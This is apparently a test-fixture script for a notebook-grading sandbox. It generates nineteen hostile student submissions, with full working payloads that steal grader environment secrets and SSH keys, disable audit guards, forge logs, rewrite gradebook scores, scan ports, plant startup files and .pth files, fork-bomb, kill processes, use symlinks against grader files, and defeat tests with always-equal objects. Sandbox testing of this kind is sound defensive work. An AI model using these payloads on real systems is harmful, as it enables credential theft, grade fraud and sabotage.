"""Write the committed hostile submissions of the fixture's ``demo`` assignment.

Like nbgrader's own tests, hostile notebooks are committed as files (``submissions/<student>/
demo/``), made from the released ``demo`` notebook (``tests/grading_fixtures.py``) as a
student would edit it. ``tests/test_grading_sandbox.py`` grades them in the real OS sandbox
and checks that the committed files are exactly what this script makes, so regenerate them
after changing the fixture or an attack:

    .venv/bin/python tests/hostile/make_hostile.py

Every attack prints what it found, so anything that gets through shows up in the feedback
the student would read. The code is written against what a sandboxed kernel can see: it
learns the grader's paths from ``/proc`` and ``widgets.__file__``, never from this machine.
"""

from __future__ import annotations

import copy
import shutil
import sys
import tempfile
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

HERE = Path(__file__).resolve().parent
SUBMISSIONS = HERE / "submissions"
ASSIGNMENT = "demo"

# Markers the attacks would leave; the test looks for them on the real machine.
HOST_MARKER_FILE = "/tmp/aligned-hostile-marker"
WRITE_MARKER = "HOSTILE-WRITE-MARKER"
SHADOW_MARKER = "SHADOW-GRADING-RAN"
STARTUP_MARKER = "EVIL-STARTUP-RAN"
FORGED_NOTE = "FORGED-NOTE all clear"
SLEEP_ARGUMENT = "987654"  # `sleep 987654`: a process that must not outlive the run
# Ports the network attack tries first; the test listens on one of them.
LISTEN_PORTS = (47231, 47233, 47237, 47239)
ABSTRACT_SOCKET = "aligned-hostile-listener"
# Files the test plants in the course folder, which the symlink attack points the grader at.
PLANTED_NOTES = "planted-notes.jsonl"
EVENTS_TARGET = "hostile-events-target.txt"

# What the grader's sandbox lets a kernel find out about the machine, shared by the attacks.
RECON = '''import json
import os
from pathlib import Path

import widgets


def proc_text(path):
    try:
        return Path(path).read_bytes().replace(b"\\0", b"\\n").decode(errors="replace")
    except OSError as error:
        return f"<{type(error).__name__}>"


GRADER_ENV = dict(
    line.split("=", 1) for line in proc_text("/proc/1/environ").splitlines() if "=" in line
)
REPO = Path(widgets.__file__).resolve().parent.parent
COURSE_PATHS = []
for arg in proc_text("/proc/1/cmdline").splitlines() + proc_text("/proc/self/environ").splitlines():
    start = arg.find("{")
    if "own_dir" in arg and start >= 0:
        try:
            COURSE_PATHS += json.loads(arg[start:]).get("deny", [])
        except ValueError:
            pass
COURSE_PATHS = sorted({p for p in COURSE_PATHS if p.startswith("/") and p != "/proc"})
WORDS = ("SECRET", "PASSWORD", "TOKEN", "HOME", "STATE")
print("grader env:", sorted(k for k in GRADER_ENV if any(w in k for w in WORDS)))
print("course paths:", COURSE_PATHS)
'''


def _grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _cell(nb, grade_id: str):
    for cell in nb.cells:
        if _grade_id(cell) == grade_id:
            return cell
    raise KeyError(grade_id)


def _with(released, answers: dict[str, str], extra: list[str] = (), *, after: str | None = None):
    """The released notebook with ``answers`` filled in and ``extra`` code cells added,
    after the intro (or after the cell ``after``), as a student adds cells."""
    nb = copy.deepcopy(released)
    for grade_id, text in answers.items():
        _cell(nb, grade_id).source = text
    at = 1 if after is None else nb.cells.index(_cell(nb, after)) + 1
    for offset, source in enumerate(extra):
        nb.cells.insert(at + offset, new_code_cell(source))
    return nb


def _stable_ids(nb, student: str):
    """Deterministic cell ids (nbformat makes random ones), so the files do not drift."""
    for index, cell in enumerate(nb.cells):
        cell.id = _grade_id(cell) or f"{student}-{index}"
        if cell.cell_type == "code":
            cell.outputs = []
            cell.execution_count = None
    return nb


# ----------------------------------------------------------------------------------------
# The attacks: student id -> (notebook, {extra file: text})
# ----------------------------------------------------------------------------------------

GC_GUARD = '''import gc
import glob

guards = [obj for obj in gc.get_objects() if type(obj).__name__ == "Guard" and hasattr(obj, "_busy")]
for guard in guards:
    guard._busy = True  # the audit hook returns early while it thinks it is busy
print("guards switched off:", len(guards))
for pattern in [str(REPO / "*"), str(REPO / "solutions" / "*" / "*"), "/root/*", "/tmp/*", "../../*", "../../../*/*"]:
    for path in sorted(glob.glob(pattern))[:30]:
        try:
            with open(path, errors="replace") as handle:
                print("READ", path, handle.read(120).replace("\\n", " "))
        except OSError as error:
            print("NO", path, type(error).__name__)
'''

LOG_WIPE = '''for path in [REPO / "solutions" / "answers.ipynb", "/proc/1/environ"]:
    try:
        open(path).close()
    except OSError as error:
        print("refused", path, type(error).__name__)
# The guard's log and the supervisor's events are files in the scratch folder: rewrite them.
for name in ("../run/guard.jsonl", "../run/sandbox-events.jsonl"):
    try:
        with open(name, "w") as handle:
            handle.write(json.dumps({"event": "open", "detail": "FORGED_NOTE"}) + "\\n")
        print("rewrote", name)
    except OSError as error:
        print("could not rewrite", name, type(error).__name__)
'''.replace("FORGED_NOTE", FORGED_NOTE)

SHADOW_MODULE = f'''"""A submission's own copy of a grading module: reads the solutions, leaves a marker."""
import os
from pathlib import Path

for folder in [Path(__file__).resolve().parent, *Path(__file__).resolve().parents]:
    solutions = folder / "solutions"
    if solutions.is_dir():
        print("{SHADOW_MARKER} solutions:", sorted(os.listdir(solutions))[:5])
        break
for place in (Path(__file__).resolve().parent, Path.home(), Path("/tmp")):
    try:
        (place / "aligned-shadow-marker.txt").write_text("{SHADOW_MARKER}")
    except OSError:
        pass
print("{SHADOW_MARKER}")
'''

SHADOW_CHECK = '''import sys

import grading

print("grading comes from", grading.__file__)
print("sys.path:", sys.path)
print("sandbox module:", sys.modules.get("grading.sandbox"))
'''

STARTUP = f'''import os
from pathlib import Path

EVIL = 'print("{STARTUP_MARKER}")\\ndef double(x):\\n    return -1\\n'
CONFIG = 'c.InteractiveShellApp.exec_lines = ["print(\\\\"{STARTUP_MARKER}\\\\")", "double = lambda x: -1"]\\n'
homes = [Path.home(), Path("/root"), Path(GRADER_ENV.get("HOME", "/root"))]
targets = [home / ".ipython" / "profile_default" / "startup" / "00-evil.py" for home in homes]
targets.append(Path(os.environ.get("IPYTHONDIR", "/tmp/ipython")) / "profile_default" / "startup" / "00-evil.py")
targets.append(Path(GRADER_ENV.get("IPYTHONDIR", "/nowhere")) / "profile_default" / "startup" / "00-evil.py")
targets.append(Path(".ipython") / "profile_default" / "startup" / "00-evil.py")
for target in targets:
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(EVIL)
        print("wrote", target)
    except OSError as error:
        print("could not write", target, type(error).__name__)
for name in ("ipython_config.py", "ipython_kernel_config.py", "sitecustomize.py"):
    try:
        Path(name).write_text(CONFIG if name.startswith("ipython") else EVIL)
        print("wrote", name)
    except OSError as error:
        print("could not write", name, type(error).__name__)
'''

GRADEBOOK = '''import glob
import sqlite3
import time

candidates = set()
roots = ["/", "/tmp", os.path.expanduser("~/.local/share/aligned"), GRADER_ENV.get("ALIGNED_STATE_DIR", "/nowhere"),
         GRADER_ENV.get("HOME", "/nowhere"), *COURSE_PATHS]
deadline = time.monotonic() + 5
for root in roots:
    candidates.update(glob.glob(os.path.join(root, "gradebook.db")))
    for folder, dirs, files in os.walk(root):
        skip = {"proc", "sys", "usr", "dev", "lib", "lib64", "bin", "sbin", ".venv", "site-packages", ".git"}
        dirs[:] = [d for d in dirs if d not in skip]
        candidates.update(os.path.join(folder, f) for f in files if f.startswith("gradebook") or f.endswith(".sqlite"))
        if time.monotonic() > deadline:
            break
print("gradebooks found:", sorted(candidates))
for path in sorted(candidates):
    try:
        direct = sqlite3.connect(path)
        print(path, direct.execute("select name from sqlite_master").fetchall()[:5])
        direct.execute("UPDATE grade SET manual_score = 0")
        direct.commit()
    except Exception as error:
        print("direct", path, type(error).__name__, error)
    try:
        memory = sqlite3.connect(":memory:")
        memory.execute("ATTACH DATABASE ? AS gb", (path,))
        memory.execute("UPDATE gb.grade SET auto_score = 0, manual_score = 0")
        memory.execute("UPDATE gb.grade SET manual_score = 100 WHERE id IN (SELECT id FROM gb.grade LIMIT 3)")
        memory.commit()
        print("ATTACHED and updated", path)
    except Exception as error:
        print("attach", path, type(error).__name__, error)
'''

SNOOP = '''import glob

def show(label, path):
    try:
        data = Path(path).read_bytes()[:300].replace(b"\\0", b"\\n").decode(errors="replace")
        print("READ", label, path, data)
    except OSError as error:
        print("NO", label, path, type(error).__name__)

for key, value in sorted(GRADER_ENV.items()):
    if any(word in key for word in ("SECRET", "PASSWORD", "TOKEN", "URL", "HOME", "STATE")):
        print("GRADER ENV", key, "=", value)
print("SELF ENV", proc_text("/proc/self/environ")[:300])
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    print("PROC", pid, proc_text(f"/proc/{pid}/cmdline")[:200].replace("\\n", " "))
    show("environ", f"/proc/{pid}/environ")
homes = {Path.home(), Path("/root"), Path(GRADER_ENV.get("HOME", "/root"))}
for home in sorted(homes):
    for path in glob.glob(str(home / ".ssh" / "*")) + [str(home / ".ssh" / "id_rsa")]:
        show("ssh", path)
    show("live", home / ".local" / "share" / "aligned" / "live.sqlite")
for state in {os.environ.get("ALIGNED_STATE_DIR", "/nowhere"), GRADER_ENV.get("ALIGNED_STATE_DIR", "/nowhere")}:
    show("live", Path(state) / "live.sqlite")
show("solutions", REPO / "solutions")
for path in sorted(glob.glob(str(REPO / "solutions" / "**" / "*.ipynb"), recursive=True))[:3]:
    show("solution", path)
patterns = ["../../*/*.ipynb", "../../../*/*/*/*.ipynb", "/tmp/aligned-grade-*/*/submitted/*/*/*.ipynb"]
for root in COURSE_PATHS:
    patterns += [f"{root}/submitted/*/*/*.ipynb", f"{root}/*/*.ipynb", f"{root}/*/*/*.ipynb", f"{root}/*.json"]
for pattern in patterns:
    for path in sorted(glob.glob(pattern))[:10]:
        show("other", path)
'''

NETWORK = f'''import socket

LISTEN_PORTS = {LISTEN_PORTS!r}
open_ports = []
for port in [*LISTEN_PORTS, 5432, 22, 80, 443, 3306, 6379, 8080, 8866, 8888, *range(1, 65536)]:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.05) as conn:
            if conn.getsockname() == conn.getpeername():
                continue  # TCP's self-connect: the scan met its own ephemeral port
            conn.sendall(b"hello from a submission\\n")
            open_ports.append(port)
    except OSError:
        pass
print("open ports on 127.0.0.1:", open_ports)
for host, port in [("::1", 5432), ("1.1.1.1", 53), ("8.8.8.8", 443), ("10.0.0.1", 5432)]:
    try:
        socket.create_connection((host, port), timeout=0.5).close()
        print("CONNECTED", host, port)
    except OSError as error:
        print("no", host, port, type(error).__name__)
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"ping", ("8.8.8.8", 53))
    print("UDP sent")
except OSError as error:
    print("no UDP", type(error).__name__)
for address in ["\\0{ABSTRACT_SOCKET}", "/var/run/postgresql/.s.PGSQL.5432", "/run/postgresql/.s.PGSQL.5432"]:
    try:
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.settimeout(0.5)
        unix.connect(address)
        unix.sendall(b"hello from a submission\\n")
        print("CONNECTED unix", repr(address))
    except OSError as error:
        print("no unix", repr(address), type(error).__name__)
'''

SLEEPERS = f'''import os

for _ in range(3):
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "{SLEEP_ARGUMENT}"])
        os._exit(0)
    os.waitpid(first, 0)
print("three sleepers started")
'''

FORK_BOMB = '''import os
import time

children = []
for _ in range(500):
    try:
        pid = os.fork()
    except OSError as error:
        print("fork refused after", len(children), error)
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children.append(pid)
print("forked", len(children))
'''

WRITES = f'''import site
import sysconfig

MARK = "{WRITE_MARKER}\\n"
targets = [Path.home() / ".bashrc", Path("/root/.bashrc"), Path(GRADER_ENV.get("HOME", "/root")) / ".bashrc",
           Path("{HOST_MARKER_FILE}"), REPO / "{WRITE_MARKER}.txt", REPO / "grading" / "hostile_marker.py",
           REPO / "widgets" / "hostile_marker.py", Path(sysconfig.get_paths()["purelib"]) / "hostile-marker.pth",
           Path(widgets.__file__).parent / "hostile_marker.py", Path("/etc/hostile-marker"),
           Path(os.environ.get("ALIGNED_DATA_DIR", "/nowhere")) / "hostile-marker.csv",
           *[Path(root) / "hostile-marker.txt" for root in COURSE_PATHS]]
targets += [Path(p) / "hostile-marker.pth" for p in site.getsitepackages()]
for target in targets:
    try:
        with open(target, "a") as handle:
            handle.write(MARK)
        print("wrote", target)
    except OSError as error:
        print("could not write", target, type(error).__name__)
'''

KILL_PARENT = '''import os

print("killing my parent", os.getppid())
os.kill(os.getppid(), 9)
'''
KILL_ALL = '''import os

os.kill(-1, 9)
print("still here after kill(-1)")
'''
KILL_EVERY_PID = '''import os

for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), 9)
        except OSError as error:
            print("could not kill", name, type(error).__name__)
os.kill(os.getpid(), 9)
'''

ENCODED = '''import base64
import codecs
import gc
import inspect
import linecache
import types


def leak():
    found = []
    frame = inspect.currentframe().f_back.f_back
    while frame is not None:
        code = frame.f_code
        found += [c for c in code.co_consts if isinstance(c, str)]
        found += linecache.getlines(code.co_filename)
        frame = frame.f_back
    shell = get_ipython()
    found += [str(text) for text in shell.user_ns.get("In", [])[-3:]]
    found += [str(text) for text in getattr(shell.history_manager, "input_hist_raw", [])[-3:]]
    for obj in gc.get_objects():
        if isinstance(obj, types.CodeType):
            found += [c for c in obj.co_consts if isinstance(c, str)]
    wanted = [t for t in found if any(w in t for w in ("assert", "should", "HIDDEN", "SECRET"))]
    text = "\\n".join(dict.fromkeys(wanted))[:1500]
    print("B64", base64.b64encode(text.encode()).decode())
    print("HEX", text.encode().hex())
    print("ROT13", codecs.encode(text, "rot13").replace("\\n", " | "))
    print("REV", text[::-1].replace("\\n", " | "))
'''


def _answers_with_leak(good: dict[str, str]) -> dict[str, str]:
    leaky = {}
    for grade_id in ("q1_answer", "q2_answer", "q3_answer"):
        text = good[grade_id]
        head, _, body = text.partition("):\n")
        leaky[grade_id] = f"{head}):\n    leak()\n{body}"
    return {**good, **leaky}


TAMPER_INPUT = '''ip = get_ipython()
t = ip.input_transformers_cleanup
t.append(lambda lines: [])
'''
TAMPER_AST = '''import ast


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return None


get_ipython().ast_transformers.append(NoAsserts())
'''
ANYTHING = '''class Anything(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    def __sub__(self, other):
        return self

    def __abs__(self):
        return self

    __hash__ = float.__hash__
'''
TAMPER_BUILTINS = ANYTHING + '''

import builtins


def anything(*args, **kwargs):
    return Anything()


builtins.double = builtins.mean_of = builtins.total = anything
builtins.abs = lambda value: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
'''
TAMPER_TRACEBACK = '''ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
'''

# The scratch folder's run/ files are read and written by the grader, outside the sandbox. The
# grader's home: from its environment, or from the ~/.ssh its guard policy names.
GRADER_HOME = '''homes = [Path(p).parent for p in COURSE_PATHS if p.endswith("/.ssh")]
if "HOME" in GRADER_ENV:
    homes.append(Path(GRADER_ENV["HOME"]))
print("grader's home:", homes[:1])


def link(name, target):
    try:
        os.remove(name)
    except OSError:
        pass
    try:
        os.symlink(target, name)
        print("linked", name, "->", target)
    except OSError as error:
        print("could not link", name, type(error).__name__)
'''
SYMLINK_READ = f'''for home in homes[:1]:
    link("../run/guard.jsonl", home / "{PLANTED_NOTES}")
'''
SYMLINK_WRITE = f'''for home in homes[:1]:
    link("../run/sandbox-events.jsonl", home / "{EVENTS_TARGET}")
'''
DISK_FILL = '''# More than the scratch folder may hold: the grader's disk watcher steps in (and writes an event).
block = b"x" * (8 * 1024 * 1024)
for index in range(6):
    with open(f"fill-{index}.bin", "wb") as handle:
        for _ in range(7):
            handle.write(block)
print("filled")
'''

ROOT_FILL = '''# The sandbox's own root folder is memory too: write there, outside the scratch folder.
import os

block = b"x" * (8 * 1024 * 1024)
written = 0
for index in range(6):
    try:
        with open(f"/fill-{index}.bin", "wb") as handle:
            for _ in range(6):
                handle.write(block)
                written += len(block)
    except OSError as error:
        print("stopped:", type(error).__name__)
        break
print(f"wrote {written // 2**20} MiB outside the scratch folder")
'''


def submissions(released) -> dict[str, tuple[nbformat.NotebookNode, dict[str, str]]]:
    """Every hostile submission: student id -> (notebook, other files of the submission)."""
    import grading_fixtures as F

    good, wrong = F.GOOD, F.WRONG
    subs: dict[str, tuple[nbformat.NotebookNode, dict[str, str]]] = {}
    # 1. switch the in-kernel guard off through the garbage collector, then read around
    subs["h01-gcguard"] = (_with(released, good, [RECON, GC_GUARD]), {})
    # 1b. try something the guard logs, then rewrite the guard's log and the events file
    subs["h02-logwipe"] = (_with(released, good, [RECON, LOG_WIPE]), {})
    # 2. a `grading` package (and start-up modules) shipped beside the notebook
    shadow_files = {name: SHADOW_MODULE for name in (
        "grading/__init__.py", "grading/sandbox.py", "grading/guard.py", "sitecustomize.py",
        "usercustomize.py", "ipykernel_launcher.py")}
    subs["h03-shadow"] = (_with(released, good, [SHADOW_CHECK]), shadow_files)
    # 3. IPython start-up files and config in every home and IPython folder it can name
    subs["h04-startup"] = (_with(released, good, [RECON, STARTUP]), {})
    # 4. find the gradebook, ATTACH it and rewrite scores (wrong answers: a gain would show)
    subs["h05-gradebook"] = (_with(released, wrong, [RECON, GRADEBOOK]), {})
    # 5. other students, solutions, source, ~/.ssh, the live database, /proc environments
    subs["h06-snoop"] = (_with(released, good, [RECON, SNOOP]), {})
    # 6. the network: every port on 127.0.0.1, the outside, abstract and database sockets
    subs["h07-network"] = (_with(released, good, [NETWORK]), {})
    # 7. daemonised `sleep 987654` children, then a 500-process fork bomb
    subs["h08-forkbomb"] = (_with(released, good, [SLEEPERS, FORK_BOMB]), {})
    # 8. writes outside the scratch folder: homes, /tmp, the repository, site-packages
    subs["h09-writes"] = (_with(released, good, [RECON, WRITES]), {})
    # 9. kill the grader: the parent, kill(-1), every pid in /proc
    subs["h10-killer"] = (_with(released, good, [KILL_PARENT, KILL_ALL, KILL_EVERY_PID]), {})
    # 10. print the running test cell's source, encoded, from the answers
    subs["h11-encoded"] = (_with(released, _answers_with_leak(good), [ENCODED]), {})
    # 11. blank notebooks that change how the later cells run
    subs["h12-tamper-input"] = (_with(released, {}, [TAMPER_INPUT]), {})
    subs["h13-tamper-ast"] = (_with(released, {}, [TAMPER_AST]), {})
    emptied = {"q1_answer": "", "q2_answer": "", "q3_answer": ""}  # the stubs deleted: builtins answer
    subs["h14-tamper-builtins"] = (_with(released, emptied, [TAMPER_BUILTINS]), {})
    always_equal = {"q1_answer": "def double(x):\n    return Anything()\n",
                    "q2_answer": "def mean_of(values):\n    return Anything()\n",
                    "q3_answer": "def total(frame):\n    return Anything()\n"}
    subs["h15-tamper-eq"] = (_with(released, always_equal, [ANYTHING]), {})
    subs["h16-tamper-traceback"] = (_with(released, {}, [TAMPER_TRACEBACK]), {})
    # the grader follows symlinks the kernel put in its scratch folder
    subs["h17-symlink-read"] = (_with(released, good, [RECON, GRADER_HOME, SYMLINK_READ]), {})
    subs["h18-symlink-write"] = (_with(released, good, [RECON, GRADER_HOME, SYMLINK_WRITE, DISK_FILL]), {})
    # the sandbox's root folder: memory outside every limit
    subs["h19-rootfill"] = (_with(released, good, [ROOT_FILL]), {})
    return {student: (_stable_ids(nb, student), files) for student, (nb, files) in subs.items()}


def notebook_text(nb) -> str:
    text = nbformat.writes(nb)
    return text if text.endswith("\n") else text + "\n"


def expected_files(released) -> dict[str, str]:
    """Relative path under submissions/ -> the text this script writes there."""
    files = {}
    for student, (nb, extra) in submissions(released).items():
        files[f"{student}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"] = notebook_text(nb)
        for name, text in extra.items():
            files[f"{student}/{ASSIGNMENT}/{name}"] = text
    return files


def committed_files() -> dict[str, str]:
    return {
        path.relative_to(SUBMISSIONS).as_posix(): path.read_text(encoding="utf-8")
        for path in sorted(SUBMISSIONS.rglob("*")) if path.is_file()
    }


def released_notebook():
    """Release the fixture's assignment with the real command, in a temporary folder."""
    import grading_fixtures as F

    with tempfile.TemporaryDirectory(prefix="aligned-hostile-") as folder:
        base = Path(folder)
        source = F.make_source(base)
        done = F.run_cli("release", F.ASSIGNMENT, "--course-dir", str(base / "course"), "--source-dir", str(source),
                         "--release-dir", str(base / "release"))
        if done.returncode != 0:
            raise SystemExit(done.stderr)
        return nbformat.read(str(base / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)


def main() -> None:
    sys.path.insert(0, str(HERE.parent))  # tests/: grading_fixtures
    files = expected_files(released_notebook())
    shutil.rmtree(SUBMISSIONS, ignore_errors=True)
    for rel, text in files.items():
        path = SUBMISSIONS / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    print(f"Wrote {len(files)} files for {len({rel.split('/')[0] for rel in files})} submissions in {SUBMISSIONS}.")


if __name__ == "__main__":
    main()
